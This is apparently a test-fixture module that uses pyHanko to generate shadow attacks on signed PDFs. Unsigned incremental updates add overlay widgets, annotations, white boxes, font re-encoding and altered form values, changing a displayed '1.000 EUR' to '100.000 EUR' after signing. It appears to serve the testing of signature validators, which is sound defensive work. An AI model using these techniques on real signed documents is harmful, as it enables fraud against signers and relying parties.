"""Shadow attacks on signed PDFs (hide, replace, hide-and-replace), each an unsigned incremental
update appended after the signature with pyHanko's incremental writer, and the documents they
are made on: one page saying "Bedrag: 1.000 EUR" and a text field holding the same amount."""

from __future__ import annotations

import io
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

PAGE = (0, 0, 595, 842)
TEXT = b"BT /F1 24 Tf 72 700 Td (Bedrag: 1.000 EUR) Tj ET"
AMOUNT_FIELD = "Bedrag"


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _helvetica(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    return writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Helvetica"),
        N("/Encoding"): N("/WinAnsiEncoding")}))


def _form_xobject(writer: IncrementalPdfFileWriter, content: bytes, box: tuple[float, ...]) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject({
        N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
        N("/BBox"): generic.ArrayObject(generic.FloatObject(v) for v in box),
        N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject({
            N("/F1"): _helvetica(writer)})}),
    }, stream_data=content))


def _rect(box: tuple[float, ...]) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in box)


def base_document(pdf: bytes) -> bytes:
    """``pdf`` (one blank page) with a line of text and a text field showing the amount: what
    the signer sees and signs."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    page[N("/Resources")] = generic.DictionaryObject({N("/Font"): generic.DictionaryObject({
        N("/F1"): _helvetica(writer)})})
    page[N("/Contents")] = writer.add_object(generic.StreamObject(stream_data=TEXT))
    box = (72, 640, 300, 670)
    field = writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Widget"), N("/FT"): N("/Tx"),
        N("/T"): generic.TextStringObject(AMOUNT_FIELD), N("/V"): generic.TextStringObject("1.000 EUR"),
        N("/Rect"): _rect(box), N("/F"): generic.NumberObject(4), N("/P"): page_ref,
        N("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        N("/AP"): generic.DictionaryObject({N("/N"): _form_xobject(
            writer, b"BT /F1 12 Tf 2 10 Td (1.000 EUR) Tj ET", (0, 0, box[2] - box[0], box[3] - box[1]))}),
    }))
    page[N("/Annots")] = generic.ArrayObject([field])
    writer.update_container(page)
    writer.root[N("/AcroForm")] = generic.DictionaryObject({N("/Fields"): generic.ArrayObject([field])})
    writer.update_root()
    return _write(writer)


def add_annotation(writer: IncrementalPdfFileWriter, annotation: generic.DictionaryObject, content: bytes,
                   box: tuple[float, ...], field: bool = False) -> None:
    """``annotation`` on the first page with an appearance drawing ``content`` over ``box``;
    ``field``: also listed as a form field (a widget)."""
    page_ref, _ = writer.find_page_for_modification(0)
    annotation[N("/Rect")] = _rect(box)
    annotation[N("/P")] = page_ref
    annotation[N("/F")] = generic.NumberObject(4)  # Print
    annotation[N("/AP")] = generic.DictionaryObject({N("/N"): _form_xobject(
        writer, content, (0, 0, box[2] - box[0], box[3] - box[1]))})
    ref = writer.add_object(annotation)
    writer.register_annotation(page_ref, ref)
    if field:
        form = writer.root["/AcroForm"]
        form["/Fields"].append(ref)
        if isinstance(writer.root.raw_get("/AcroForm"), generic.IndirectObject):
            writer.update_container(form)
        else:
            writer.update_root()


def _add_annotation(pdf: bytes, annotation: generic.DictionaryObject, content: bytes,
                    box: tuple[float, ...], field: bool = False) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    add_annotation(writer, annotation, content, box, field)
    return _write(writer)


def unsigned_signature_field(name: str = "Handtekening-2") -> generic.DictionaryObject:
    return generic.DictionaryObject({
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Widget"), N("/FT"): N("/Sig"),
        N("/T"): generic.TextStringObject(name)})


WHITE_PAGE = b"1 1 1 rg 0 0 595 842 re f"
_NEW_TEXT = b"0 0 0 rg BT /F1 24 Tf 72 700 Td (Bedrag: 100.000 EUR) Tj ET"
_WHITE_LINE = b"1 1 1 rg 60 690 400 40 re f"


def _widget(content: bytes) -> Callable[[bytes], bytes]:
    def attack(pdf: bytes) -> bytes:
        return _add_annotation(pdf, unsigned_signature_field(), content, PAGE, field=True)
    return attack


def _annotation(subtype: str, content: bytes) -> Callable[[bytes], bytes]:
    def attack(pdf: bytes) -> bytes:
        annotation = generic.DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N(subtype)})
        if subtype == "/FreeText":
            annotation[N("/DA")] = generic.TextStringObject("/Helv 24 Tf 0 g")
            annotation[N("/Contents")] = generic.TextStringObject("Bedrag: 100.000 EUR")
        return _add_annotation(pdf, annotation, content, PAGE)
    return attack


def _content_hide(pdf: bytes) -> bytes:
    """A white box drawn over the text by a content stream appended to the page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=_WHITE_LINE)))
    return _write(writer)


def _font_replace(pdf: bytes) -> bytes:
    """The font object the page uses, rewritten in place with another encoding: the same
    bytes of content now show other glyphs (the '1' shows as a '9')."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref, _ = writer.find_page_for_modification(0)
    font_ref = page_ref.get_object()["/Resources"].raw_get("/Font").raw_get("/F1")
    font = font_ref.get_object()
    font[N("/Encoding")] = generic.DictionaryObject({
        N("/Type"): N("/Encoding"), N("/BaseEncoding"): N("/WinAnsiEncoding"),
        N("/Differences"): generic.ArrayObject([generic.NumberObject(49), N("/nine")])})
    writer.mark_update(font_ref)
    return _write(writer)


def _xobject_overlay(pdf: bytes) -> bytes:
    """A form XObject added to the page's resources and drawn over it: a white box and new text."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    xobject = _form_xobject(writer, _WHITE_LINE + b" " + _NEW_TEXT, PAGE)
    page_ref, _ = writer.find_page_for_modification(0)
    page = page_ref.get_object()
    resources = page["/Resources"]
    resources[N("/XObject")] = generic.DictionaryObject({N("/Shadow"): xobject})
    contents = page.raw_get("/Contents")
    overlay = writer.add_object(generic.StreamObject(stream_data=b"q /Shadow Do Q"))
    page[N("/Contents")] = generic.ArrayObject([contents, overlay])
    writer.update_container(page)
    return _write(writer)


def _form_value(value: str, content: bytes, need_appearances: bool = False) -> Callable[[bytes], bytes]:
    def attack(pdf: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
        form = writer.root["/AcroForm"]
        field_ref = next(f for f in form["/Fields"] if f.get_object().get("/T") == AMOUNT_FIELD)
        field = field_ref.get_object()
        field[N("/V")] = generic.TextStringObject(value)
        if content:
            x1, y1, x2, y2 = (float(v) for v in field["/Rect"])
            field[N("/AP")] = generic.DictionaryObject({N("/N"): _form_xobject(writer, content, (0, 0, x2 - x1, y2 - y1))})
        writer.mark_update(field_ref)
        if need_appearances:
            form[N("/NeedAppearances")] = generic.BooleanObject(True)
            writer.update_root()
        return _write(writer)
    return attack


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "widget-hide": _widget(WHITE_PAGE),
    "widget-replace": _widget(b"0 0 0 rg BT /F1 24 Tf 72 660 Td (Niet van toepassing) Tj ET"),
    "widget-hide-and-replace": _widget(WHITE_PAGE + b" " + _NEW_TEXT),
    "annotation-hide": _annotation("/Square", _WHITE_LINE),
    "annotation-replace": _annotation("/FreeText", b"0 0 0 rg BT /F1 24 Tf 72 660 Td (Niet van toepassing) Tj ET"),
    "annotation-hide-and-replace": _annotation("/Stamp", WHITE_PAGE + b" " + _NEW_TEXT),
    "content-hide": _content_hide,
    "content-replace": _font_replace,
    "content-hide-and-replace": _xobject_overlay,
    "form-hide": _form_value("", b"1 1 1 rg 0 0 228 30 re f"),
    "form-replace": _form_value("100.000 EUR", b"BT /F1 12 Tf 2 10 Td (100.000 EUR) Tj ET"),
    "form-hide-and-replace": _form_value("100.000 EUR", b"", need_appearances=True),
}
"""Each attack by its vector (a new widget, a new annotation, the page's content and resources,
a form field's value) and its kind (hide, replace, hide-and-replace)."""
